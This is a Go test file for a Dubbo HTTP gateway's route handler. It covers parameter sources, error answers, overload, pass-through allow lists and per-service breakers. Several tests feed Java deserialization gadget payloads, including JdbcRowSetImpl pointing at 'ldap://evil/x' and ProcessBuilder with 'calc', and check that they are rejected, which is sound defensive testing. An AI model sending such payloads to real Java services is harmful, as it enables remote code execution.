package dubboroute_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/dubbogw/dubbogw/config"
	"github.com/dubbogw/dubbogw/demo"
	"github.com/dubbogw/dubbogw/dubbo"
	"github.com/dubbogw/dubbogw/dubbo/provider"
	"github.com/dubbogw/dubbogw/dubboroute"
	"github.com/dubbogw/dubbogw/exchange"
	"github.com/dubbogw/dubbogw/internal/testenv"
	"github.com/dubbogw/dubbogw/registry"
)

// These tests drive dubboroute.Handler directly (ServeHTTP on a recorder,
// no gateway, no router) against the real in-process Dubbo provider of
// dubbo/provider, over TCP: what they check is the whole way from an HTTP
// request to the hessian arguments, the provider's answer and back to the
// JSON answer or the gateway's JSON error.

// quiet discards logs: the handler logs refusals and failed calls.
var quiet = slog.New(slog.DiscardHandler)

// fixture is one test's provider, client, registry and route handlers.
type fixture struct {
	t        *testing.T
	srv      *provider.Server
	handlers map[string]*dubboroute.Handler
}

// startDemo runs the demo provider (at most maxInFlight calls at once; 0:
// the default) and builds a handler for each route of routes, a YAML list
// of routes whose dubbo sections use registry "demo". Everything is
// released when the test ends.
func startDemo(t *testing.T, maxInFlight int, routes string) *fixture {
	t.Helper()
	return startDemoWith(t, maxInFlight, routes, nil)
}

// startDemoWith is startDemo whose registry also lists extra providers
// (interface → addresses).
func startDemoWith(t *testing.T, maxInFlight int, routes string, extra map[string][]string) *fixture {
	t.Helper()
	srv := provider.NewServer(quiet)
	for _, svc := range demo.DubboServices() {
		srv.Register(svc)
	}
	if maxInFlight > 0 {
		srv.SetMaxInFlight(maxInFlight)
	}
	addr, err := srv.Listen(context.Background(), "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		if err := srv.Close(ctx); err != nil {
			t.Errorf("closing the provider: %v", err)
		}
	})
	client := dubbo.New(dubbo.Options{Logger: quiet})
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		if err := client.Close(ctx); err != nil {
			t.Errorf("closing the client: %v", err)
		}
	})
	providers := map[string][]string{demo.UserInterface: {addr.String()}}
	maps.Copy(providers, extra)
	reg, err := registry.NewStatic(providers)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = reg.Close() })
	refs := registry.NewReferences(reg, 16, time.Minute)
	refs.SetLogger(quiet)
	t.Cleanup(refs.Close)

	cfg, err := config.Parse([]byte(fmt.Sprintf(`
registries:
  demo:
    providers:
      com.example.demo.UserService: [%q]
routes:
%s`, addr.String(), routes)), "test.yaml", nil)
	if err != nil {
		t.Fatal(err)
	}
	d := &fixture{t: t, srv: srv, handlers: map[string]*dubboroute.Handler{}}
	encoders := &dubboroute.Encoders{} // as a gateway table shares them
	for _, rc := range cfg.Routes {
		// No Log: a nil logger discards (the refusals these tests cause
		// are logged through it).
		dr, _ := dubboroute.RouteOf(rc)
		h, err := dubboroute.New(rc.Name, dr, dubboroute.Deps{
			Client: client, References: map[string]*registry.References{"demo": refs}, Encoders: encoders,
		})
		if err != nil {
			t.Fatalf("route %s: %v", rc.Name, err)
		}
		t.Cleanup(h.Close)
		d.handlers[rc.Name] = h
	}
	return d
}

// req is one request to a route, with the path parameters the router
// would have captured.
type req struct {
	route        string
	method, url  string
	pathParams   []exchange.PathParam
	header, body string // header: "Name: value", several separated by "\n"
}

// serve runs r through its route's handler, with the request's Info in
// its context as the gateway puts it there.
func (d *fixture) serve(t *testing.T, ctx context.Context, r req) *httptest.ResponseRecorder {
	t.Helper()
	h, ok := d.handlers[r.route]
	if !ok {
		t.Fatalf("no route %q", r.route)
	}
	var body io.Reader
	if r.body != "" {
		body = strings.NewReader(r.body)
	}
	hr := httptest.NewRequest(r.method, r.url, body)
	for line := range strings.Lines(r.header) {
		k, v, _ := strings.Cut(line, ":")
		hr.Header.Add(k, strings.TrimSpace(v))
	}
	info := &exchange.Info{RequestID: "rid-" + r.route, Route: r.route, PathParams: r.pathParams, Start: time.Now()}
	hr = hr.WithContext(exchange.WithInfo(ctx, info))
	w := httptest.NewRecorder()
	h.ServeHTTP(w, hr)
	return w
}

// checkOK asserts a 200 JSON answer whose body is exactly want.
func checkOK(t *testing.T, name string, w *httptest.ResponseRecorder, want string) {
	t.Helper()
	if w.Code != http.StatusOK || w.Header().Get("Content-Type") != "application/json" {
		t.Errorf("%s: %d %s: %s", name, w.Code, w.Header().Get("Content-Type"), w.Body)
		return
	}
	if got := strings.TrimSpace(w.Body.String()); got != want {
		t.Errorf("%s:\n got %s\nwant %s", name, got, want)
	}
}

// checkErr asserts the gateway's JSON error body with status, code, a
// message containing msg, and the request's route and id.
func checkErr(t *testing.T, name string, r req, w *httptest.ResponseRecorder, status int, code, msg string) {
	t.Helper()
	if w.Code != status {
		t.Errorf("%s: status %d, want %d: %s", name, w.Code, status, w.Body)
		return
	}
	if ct := w.Header().Get("Content-Type"); ct != "application/json" {
		t.Errorf("%s: Content-Type %q, want application/json", name, ct)
	}
	var e struct {
		Error struct {
			Code, Message, Route string
			RequestID            string `json:"request_id"`
		}
	}
	if err := json.Unmarshal(w.Body.Bytes(), &e); err != nil {
		t.Errorf("%s: the error body is not the gateway's JSON error: %v: %s", name, err, w.Body)
		return
	}
	if e.Error.Code != code || !strings.Contains(e.Error.Message, msg) {
		t.Errorf("%s: error %s %q, want %s containing %q", name, e.Error.Code, e.Error.Message, code, msg)
	}
	if e.Error.Route != r.route || e.Error.RequestID != "rid-"+r.route {
		t.Errorf("%s: error names route %q and request %q, want %q and %q", name, e.Error.Route, e.Error.RequestID, r.route, "rid-"+r.route)
	}
}

func path(kv ...string) []exchange.PathParam {
	var ps []exchange.PathParam
	for i := 0; i+1 < len(kv); i += 2 {
		ps = append(ps, exchange.PathParam{Name: kv[i], Value: kv[i+1]})
	}
	return ps
}

// calls is what the provider was asked to run, answered or refused.
// calls counts the calls that reached the provider, once none is running:
// the provider counts a call answered before it releases the call's slot,
// so counting those running too would count the last answered call twice
// while its slot is released (a chance failure: "6 calls, then 5").
func (d *fixture) calls() uint64 {
	var s provider.Stats
	testenv.WaitFor(d.t, 5*time.Second, "the provider's calls to end", func() bool {
		s = d.srv.Stats()
		return s.InFlight == 0
	})
	return s.Requests + s.Rejected
}

const methodRoutes = `
  - name: get-user
    match: {methods: [GET], path: "/users/{id}"}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: getUser
      params: [{type: java.lang.String, from: path, name: id}]
  - name: get-user-typed
    match: {methods: [GET], path: "/typed/users/{id}"}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: getUser
      generic: false
      params: [{type: java.lang.String, from: path, name: id}]
  - name: list-users
    match: {methods: [GET], path: /users}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: listUsers
      params: [{type: int, from: query, name: n, value: "2"}]
  - name: greet-header
    match: {methods: [GET], path: /greet/header}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: greet
      params: [{type: java.lang.String, from: header, name: X-Name, required: true}]
  - name: greet-field
    match: {methods: [POST], path: /greet/field}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: greet
      params: [{type: java.lang.String, from: body, name: who, value: nobody}]
  - name: greet-pointer
    match: {methods: [POST], path: /greet/pointer}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: greet
      params: [{type: java.lang.String, from: body, pointer: "/person/names/1", required: true}]
  - name: greet-constant
    match: {methods: [GET], path: /greet/constant}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: greet
      params: [{type: java.lang.String, from: constant, value: constant}]
  - name: greet
    match: {methods: [GET], path: /greet}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: greet
  - name: create-user
    match: {methods: [POST], path: /users}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: createUser
      params: [{type: com.example.demo.User}]
      types: {com.example.demo.User: {age: int}}
`

// TestParamSources checks that each parameter source (path, query and its
// default, header, a body field, a JSON pointer into the body, the whole
// body as a DTO, a constant, none) reaches the provider as the right Java
// argument: the demo methods echo their arguments, so the exact JSON of
// the result shows what was sent. Generic and typed calls both.
func TestParamSources(t *testing.T) {
	d := startDemo(t, 0, methodRoutes)
	user := func(id string) string {
		return `{"id":"` + id + `","name":"user ` + id + `","age":30,"email":"` + id + `@example.com"}`
	}
	for _, c := range []struct {
		name string
		req  req
		want string
	}{
		{"path", req{route: "get-user", method: "GET", url: "/users/42", pathParams: path("id", "42")}, user("42")},
		{"path, escaped value", req{route: "get-user", method: "GET", url: "/users/a%2Fb", pathParams: path("id", "a/b \"q\"")},
			`{"id":"a/b \"q\"","name":"user a/b \"q\"","age":30,"email":"a/b \"q\"@example.com"}`},
		{"path, typed call", req{route: "get-user-typed", method: "GET", url: "/typed/users/7", pathParams: path("id", "7")}, user("7")},
		{"query", req{route: "list-users", method: "GET", url: "/users?n=1"}, "[" + user("1") + "]"},
		{"query zero", req{route: "list-users", method: "GET", url: "/users?n=0"}, "[]"},
		{"query default", req{route: "list-users", method: "GET", url: "/users"}, "[" + user("1") + "," + user("2") + "]"},
		{"header", req{route: "greet-header", method: "GET", url: "/greet/header", header: "X-Name: header"}, `"Hello, header"`},
		{"body field", req{route: "greet-field", method: "POST", url: "/greet/field", body: `{"other":[1,2],"who":"field"}`}, `"Hello, field"`},
		{"body field absent: its default", req{route: "greet-field", method: "POST", url: "/greet/field", body: `{"other":1}`}, `"Hello, nobody"`},
		{"body pointer", req{route: "greet-pointer", method: "POST", url: "/greet/pointer",
			body: `{"person":{"names":["first","second"]},"who":"field"}`}, `"Hello, second"`},
		{"whole body DTO", req{route: "create-user", method: "POST", url: "/users",
			body: `{"id":"7","name":"Ada","age":36,"email":"ada@example.com"}`}, `{"id":"7","name":"Ada","age":36,"email":"ada@example.com"}`},
		{"constant", req{route: "greet-constant", method: "GET", url: "/greet/constant"}, `"Hello, constant"`},
		{"no parameter", req{route: "greet", method: "GET", url: "/greet"}, `"Hello, world"`},
	} {
		checkOK(t, c.name, d.serve(t, context.Background(), c.req), c.want)
	}
}

// TestBadArguments checks that a request that cannot be turned into the
// method's arguments is a 400 BAD_REQUEST naming the parameter, and that
// the provider never sees it (nor a gadget class named in a DTO).
func TestBadArguments(t *testing.T) {
	d := startDemo(t, 0, methodRoutes)
	// One good call first, so the connection is up and the refusals below
	// are not answered by a provider that happens not to be reached yet.
	checkOK(t, "warm-up", d.serve(t, context.Background(), req{route: "greet", method: "GET", url: "/greet"}), `"Hello, world"`)
	for _, c := range []struct {
		name string
		req  req
		msg  string
	}{
		{"abc for an int", req{route: "list-users", method: "GET", url: "/users?n=abc"},
			`parameter 0 (int from query "n"): cannot use string "abc" as int`},
		{"int overflow", req{route: "list-users", method: "GET", url: "/users?n=99999999999"}, `parameter 0 (int from query "n")`},
		// HTTP parameter pollution: which value would the provider see?
		{"an int query parameter twice", req{route: "list-users", method: "GET", url: "/users?n=1&n=2"},
			`parameter 0 (int from query "n"): given 2 times; it takes one value`},
		{"a String header twice", req{route: "greet-header", method: "GET", url: "/greet/header", header: "X-Name: a\nX-Name: b"},
			`parameter 0 (java.lang.String from header "X-Name"): given 2 times; it takes one value`},
		{"missing required header", req{route: "greet-header", method: "GET", url: "/greet/header"},
			`parameter 0 (java.lang.String from header "X-Name"): missing`},
		{"missing required pointer", req{route: "greet-pointer", method: "POST", url: "/greet/pointer", body: `{"person":{"names":["only"]}}`},
			`parameter 0 (java.lang.String from body /person/names/1): missing`},
		{"body not JSON", req{route: "greet-field", method: "POST", url: "/greet/field", body: `{"who":`}, "not valid JSON"},
		{"empty body for a DTO", req{route: "create-user", method: "POST", url: "/users"}, "the request body is empty"},
		{"DTO field of the wrong type", req{route: "create-user", method: "POST", url: "/users", body: `{"id":"1","age":"old"}`},
			"$.age"},
		{"gadget class in a DTO", req{route: "create-user", method: "POST", url: "/users",
			body: `{"class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/x","autoCommit":true}`}, "com.sun.rowset.JdbcRowSetImpl"},
		{"undeclared class in a DTO", req{route: "create-user", method: "POST", url: "/users",
			body: `{"id":"1","friend":{"class":"com.example.Other"}}`}, "com.example.Other"},
	} {
		before := d.calls()
		w := d.serve(t, context.Background(), c.req)
		checkErr(t, c.name, c.req, w, http.StatusBadRequest, exchange.CodeBadRequest, c.msg)
		if after := d.calls(); after != before {
			t.Errorf("%s: the provider was called (%d calls, then %d)", c.name, before, after)
		}
	}
}

// TestProviderErrors checks the answers to a call that reached the
// provider, or could not, and failed: an exception (500, or the route's
// exception_status, with the exception's class and message), no provider
// (503 NO_PROVIDER, at once), a call slower than the route's timeout (504).
func TestProviderErrors(t *testing.T) {
	d := startDemo(t, 0, `
  - name: fail
    match: {methods: [GET], path: "/fail/{msg}"}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: fail
      params: [{type: java.lang.String, from: path, name: msg}]
  - name: fail-422
    match: {methods: [GET], path: "/fail422/{msg}"}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: fail
      exception_status: 422
      params: [{type: java.lang.String, from: path, name: msg}]
  - name: list-users
    match: {methods: [GET], path: /users}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: listUsers
      params: [{type: int, from: query, name: n}]
  - name: nobody
    match: {methods: [GET], path: /nobody}
    dubbo:
      registry: demo
      interface: com.example.demo.NobodyService
      method: anything
  - name: slow
    match: {methods: [GET], path: "/slow/{ms}"}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: slow
      timeout: 100ms
      params: [{type: int, from: path, name: ms}]
`)
	for _, c := range []struct {
		name   string
		req    req
		status int
		code   string
		msg    string
	}{
		{"exception", req{route: "fail", method: "GET", url: "/fail/boom", pathParams: path("msg", "boom <&> \"x\"")},
			500, exchange.CodeDubboException, `com.example.demo.DemoException: boom <&> "x"`},
		{"exception, exception_status", req{route: "fail-422", method: "GET", url: "/fail422/boom", pathParams: path("msg", "boom")},
			422, exchange.CodeDubboException, "com.example.demo.DemoException: boom"},
		{"exception of the provider's own checks", req{route: "list-users", method: "GET", url: "/users?n=-1"},
			500, exchange.CodeDubboException, "java.lang.IllegalArgumentException: n must be between 0 and 1000, got -1"},
		{"no provider", req{route: "nobody", method: "GET", url: "/nobody"},
			503, exchange.CodeNoProvider, "no provider for com.example.demo.NobodyService"},
		{"slower than the timeout", req{route: "slow", method: "GET", url: "/slow/2000", pathParams: path("ms", "2000")},
			504, exchange.CodeTimeout, "within 100ms"},
	} {
		checkErr(t, c.name, c.req, d.serve(t, context.Background(), c.req), c.status, c.code, c.msg)
	}
	// The slow route itself works within its timeout: the 504 above is the
	// timeout's, not the route's failing otherwise.
	checkOK(t, "within the timeout", d.serve(t, context.Background(),
		req{route: "slow", method: "GET", url: "/slow/1", pathParams: path("ms", "1")}), `"slept 1ms"`)
}

// TestProviderOverloaded checks that a provider at its in-flight limit
// (Java's exhausted thread pool) is a 503 UPSTREAM_OVERLOADED: one call
// holds the provider's only slot while another is made.
func TestProviderOverloaded(t *testing.T) {
	d := startDemo(t, 1, `
  - name: slow
    match: {methods: [GET], path: "/slow/{ms}"}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: slow
      timeout: 1m
      params: [{type: int, from: path, name: ms}]
  - name: greet
    match: {methods: [GET], path: /greet}
    dubbo:
      registry: demo
      interface: com.example.demo.UserService
      method: greet
`)
	// The blocking call: slow(30s), which the provider runs until it is
	// closed; the client leaves when its request is cancelled.
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		d.serve(t, ctx, req{route: "slow", method: "GET", url: "/slow/30000", pathParams: path("ms", "30000")})
	}()
	t.Cleanup(func() {
		cancel()
		<-done
		// Cut the provider's sleeping call short (its Close cancels the
		// calls still running once its context ends); the Close of
		// startDemo then has nothing left to wait for.
		short, stop := context.WithTimeout(context.Background(), 100*time.Millisecond)
		defer stop()
		_ = d.srv.Close(short)
	})
	deadline := time.Now().Add(10 * time.Second)
	for d.srv.Stats().InFlight != 1 {
		if time.Now().After(deadline) {
			t.Fatalf("the blocking call never reached the provider: %+v", d.srv.Stats())
		}
		time.Sleep(5 * time.Millisecond)
	}
	r := req{route: "greet", method: "GET", url: "/greet"}
	checkErr(t, "at the in-flight limit", r, d.serve(t, context.Background(), r), 503, exchange.CodeOverloaded,
		"com.example.demo.UserService.greet answered SERVER_THREADPOOL_EXHAUSTED_ERROR")
	if s := d.srv.Stats(); s.Rejected == 0 {
		t.Errorf("the provider refused no call: %+v", s)
	}
}

const passthroughRoutes = `
  - name: generic
    match: {methods: [POST], path: "/dubbo/{interface}/{method}"}
    dubbo:
      registry: demo
      passthrough: {allow: [com.example.demo.UserService], attachments: [tenant]}
`

// TestPassthrough checks the generic pass-through: a client names the
// interface, method, types and arguments; it reaches an allowed interface
// (DTOs of its package included) and nothing else, never with a class a
// client may not name, and refusals never reach the provider.
func TestPassthrough(t *testing.T) {
	d := startDemo(t, 0, passthroughRoutes)
	call := func(iface, method, body string) req {
		return req{route: "generic", method: "POST", url: "/dubbo/" + iface + "/" + method, body: body,
			pathParams: path("interface", iface, "method", method)}
	}
	const svc = demo.UserInterface
	for _, c := range []struct {
		name string
		req  req
		want string
	}{
		{"one argument", call(svc, "greet", `{"types":["java.lang.String"],"args":["pass"]}`), `"Hello, pass"`},
		{"no body: no argument", call(svc, "greet", ``), `"Hello, world"`},
		{"a DTO result", call(svc, "getUser", `{"types":["java.lang.String"],"args":["9"]}`),
			`{"id":"9","name":"user 9","age":30,"email":"9@example.com"}`},
		{"a DTO of the interface's package", call(svc, "createUser",
			`{"types":["com.example.demo.User"],"args":[{"class":"com.example.demo.User","id":"5","name":"Bo","age":20}]}`),
			`{"id":"5","name":"Bo","age":20}`},
		{"an allowed attachment", call(svc, "greet", `{"types":["java.lang.String"],"args":["att"],"attachments":{"tenant":"t1"}}`),
			`"Hello, att"`},
	} {
		checkOK(t, c.name, d.serve(t, context.Background(), c.req), c.want)
	}

	for _, c := range []struct {
		name   string
		req    req
		status int
		code   string
		msg    string
	}{
		{"interface outside the allow list", call("com.example.other.Admin", "greet", `{}`),
			403, exchange.CodeForbidden, "interface com.example.other.Admin is not allowed"},
		{"a prefix of an allowed name", call(svc+"Impl", "greet", `{}`),
			403, exchange.CodeForbidden, "is not allowed"},
		{"a gadget as a parameter type", call(svc, "greet", `{"types":["java.lang.ProcessBuilder"],"args":[["calc"]]}`),
			400, exchange.CodeBadRequest, "types[0]"},
		{"a gadget class in a DTO argument", call(svc, "createUser",
			`{"types":["com.example.demo.User"],"args":[{"class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/x"}]}`),
			400, exchange.CodeBadRequest, "com.sun.rowset.JdbcRowSetImpl"},
		{"a gadget inside a generic type", call(svc, "greet", `{"types":["java.util.List<javax.naming.InitialContext>"],"args":[[]]}`),
			400, exchange.CodeBadRequest, "types[0]"},
		{"a class outside every allowed package", call(svc, "createUser",
			`{"types":["com.example.other.User"],"args":[{}]}`),
			400, exchange.CodeBadRequest, "types[0]"},
		{"Dubbo's own method", call(svc, "$invoke", `{}`), 400, exchange.CodeBadRequest, "$invoke"},
		{"not a method name", call(svc, "a-b", `{}`), 400, exchange.CodeBadRequest, "not a Java method name"},
		{"an unknown body field", call(svc, "greet", `{"typez":[]}`), 400, exchange.CodeBadRequest, `unknown field "typez"`},
		{"an argument of the wrong type", call(svc, "listUsers", `{"types":["int"],"args":["many"]}`), 400, exchange.CodeBadRequest, "args: $[0]"},
		{"an attachment not on the list", call(svc, "greet", `{"attachments":{"user":"admin"}}`), 400, exchange.CodeBadRequest, "attachments.user"},
		{"a reserved attachment", call(svc, "greet", `{"attachments":{"timeout":"1"}}`), 400, exchange.CodeBadRequest, "attachments.timeout"},
		{"a version nobody provides", call(svc, "greet", `{"version":"9.9"}`), 503, exchange.CodeNoProvider, svc + ":9.9"},
	} {
		before := d.calls()
		checkErr(t, c.name, c.req, d.serve(t, context.Background(), c.req), c.status, c.code, c.msg)
		if after := d.calls(); after != before {
			t.Errorf("%s: the provider was called (%d calls, then %d)", c.name, before, after)
		}
	}

	// A method the provider does not have is its answer, not a refusal.
	r := call(svc, "noSuchMethod", `{}`)
	checkErr(t, "unknown method", r, d.serve(t, context.Background(), r), 500, exchange.CodeDubboException, "java.lang.NoSuchMethodException")
}

// TestPassthroughServicesHaveTheirOwnBreaker: behind one pass-through
// route, calls to a service whose providers are dead open that service's
// breaker (503 BREAKER_OPEN without a dial); a live service behind the same
// route is still called (issue 19: one breaker for all let five failures
// stop every service).
func TestPassthroughServicesHaveTheirOwnBreaker(t *testing.T) {
	const dead = "com.example.demo.DeadService"
	d := startDemoWith(t, 0, `
  - name: generic
    match: {methods: [POST], path: "/dubbo/{interface}/{method}"}
    dubbo:
      registry: demo
      cluster: failfast
      passthrough: {allow: [com.example.demo.*]}
      breaker: {max_failures: 3, open_for: 1m}
`, map[string][]string{dead: {testenv.ClosedAddr(t)}})
	call := func(iface, method, body string) req {
		return req{route: "generic", method: "POST", url: "/dubbo/" + iface + "/" + method, body: body,
			pathParams: path("interface", iface, "method", method)}
	}
	for i := range 3 {
		rec := d.serve(t, context.Background(), call(dead, "ping", ``))
		if rec.Code != http.StatusBadGateway {
			t.Fatalf("call %d to the dead service: %d %s, want 502", i, rec.Code, rec.Body)
		}
	}
	checkErr(t, "the dead service, its breaker open", call(dead, "ping", ``),
		d.serve(t, context.Background(), call(dead, "ping", ``)), 503, exchange.CodeBreakerOpen, dead)
	for i := range 10 {
		checkOK(t, fmt.Sprint("the live service, call ", i),
			d.serve(t, context.Background(), call(demo.UserInterface, "greet", `{"types":["java.lang.String"],"args":["x"]}`)), `"Hello, x"`)
	}
}
